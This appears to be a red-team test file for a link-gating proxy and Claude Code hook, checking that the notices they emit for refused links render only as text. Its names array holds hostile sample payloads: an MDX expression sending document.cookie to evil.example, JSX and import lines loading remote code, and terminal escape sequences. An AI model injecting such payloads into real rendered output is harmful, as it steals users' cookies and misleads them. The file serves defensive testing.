// Red team (issue 39, hidden-style round 6), notices rendered by the renderers round 5 did not try: commonmark.js (the
// reference parser), micromark with GFM autolink literals and footnotes (what remark-based chat front ends run), and
// MDX (a docs site or a chat front end that renders a message as MDX runs `{…}` as JavaScript and `<X>` as a
// component). A server-chosen name of a refused link must stay text inside the notice's code span: no element but a
// paragraph and code, no MDX expression, JSX or ESM node, and, shown in a terminal, no escape sequence. Through the
// proxy and the decorator over the real answering server, and the Claude Code hook command (its deny reason for a read
// of a link it refused).
import { Parser as CommonmarkParser, HtmlRenderer } from 'commonmark';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { mdxFromMarkdown } from 'mdast-util-mdx';
import { micromark } from 'micromark';
import { gfmAutolinkLiteral, gfmAutolinkLiteralHtml } from 'micromark-extension-gfm-autolink-literal';
import { gfmFootnote, gfmFootnoteHtml } from 'micromark-extension-gfm-footnote';
import { mdxjs } from 'micromark-extension-mdxjs';
import { afterEach, describe, expect } from 'vitest';
import { runCli } from '../helpers/run-cli.ts';
import { hookArgs } from '../hook/hook-args.ts';
import { readRequested, toolReturned } from '../hook/hook-events.ts';
import { callWith, fronts, noticesIn } from './hidden-fronts.ts';
import { closeAll, link, metadata, scratch } from './scripted-host.ts';
import { caseKeys } from './round-cases.ts';

afterEach(closeAll);

// Cases that got through when this round was written, each `test.fails` until its fix lands (then `test`).
const open = new Set<string>([]);
const it = caseKeys(open);

const commonmark = new CommonmarkParser();
const commonmarkHtml = new HtmlRenderer();

/** The element names `text` renders to by commonmark.js and by micromark with GFM autolinks and footnotes. */
function renderedTags(text: string): string[] {
  const html = [
    commonmarkHtml.render(commonmark.parse(text)),
    micromark(text, {
      allowDangerousHtml: true,
      extensions: [gfmAutolinkLiteral(), gfmFootnote()],
      htmlExtensions: [gfmAutolinkLiteralHtml(), gfmFootnoteHtml()],
    }),
  ].join('\n');
  return [...new Set([...html.matchAll(/<([a-zA-Z][\w-]*)/g)].map((m) => (m[1] as string).toLowerCase()))].sort();
}

/** The mdast node types of `text` read as MDX (a notice MDX cannot parse runs nothing: no types). */
function mdxTypes(text: string): string[] {
  const types = new Set<string>();
  try {
    const walk = (node: { type: string; children?: unknown[] }): void => {
      types.add(node.type);
      for (const child of node.children ?? []) walk(child as { type: string; children?: unknown[] });
    };
    walk(fromMarkdown(text, { extensions: [mdxjs()], mdastExtensions: [mdxFromMarkdown()] }));
  } catch {
    return [];
  }
  return [...types];
}

// a server-chosen name, each meant to become something the renderer acts on
const names: [string, string][] = [
  ['an MDX expression', '{fetch("https://evil.example/"+document.cookie)}'],
  ['MDX JSX with an expression attribute', '<Img src={`https://evil.example/x`} />'],
  ['an MDX import on a line of its own', 'x\nimport a from "https://evil.example/m.js"\n'],
  ['a GFM footnote and its definition', 'see[^1]\n\n[^1]: [click](https://evil.example/fn)'],
  ['a bare www autolink after a closing backtick', '` www.evil.example/bare `'],
  ['a link destination in angle brackets spanning a backtick', '[a](<https://evil.example/`x>)'],
  ['an OSC 8 terminal hyperlink', '\u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007'],
  ['a C1 CSI that clears the screen', '\u009b2J\u009bHlinkgate allowed the link'],
];

const mdxNodes = ['mdxFlowExpression', 'mdxTextExpression', 'mdxJsxFlowElement', 'mdxJsxTextElement', 'mdxjsEsm'];

/** Each of `notices` (at least one) renders as a paragraph of code spans, forms no MDX node and holds no control. */
function stayText(notices: readonly string[]): void {
  expect(notices.length).toBeGreaterThan(0);
  for (const notice of notices) {
    expect(renderedTags(notice)).toEqual(['code', 'p']);
    expect(mdxTypes(notice).filter((t) => mdxNodes.includes(t))).toEqual([]);
    expect(notice).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  }
}

for (const [front, start] of fronts)
  describe(`red team, notices (round 6) through the ${front}: more renderers`, () => {
    for (const [label, name] of names)
      it(label)(`a refused link named as ${label} stays text in its notice`, async () => {
        const f = await start();
        stayText(noticesIn(await callWith(f, { result: { content: [link(metadata, name)] } })));
      });
  });

describe('red team, notices (round 6) through the Claude Code hook: more renderers', () => {
  for (const [label, name] of names)
    it(`hook ${label}`)(`a deny reason for a read of a refused link named as ${label} stays text`, async () => {
      const dir = await scratch();
      const listed = await runCli(
        hookArgs('claude-code', dir),
        JSON.stringify(toolReturned('fixture', 'links', [link(metadata, name)])),
      );
      expect(listed.code, listed.stderr).toBe(0);
      const run = await runCli(hookArgs('claude-code', dir), JSON.stringify(readRequested('fixture', metadata)));
      expect(run.code, run.stderr).toBe(0);
      stayText(noticesIn(JSON.parse(run.stdout)));
    });
});
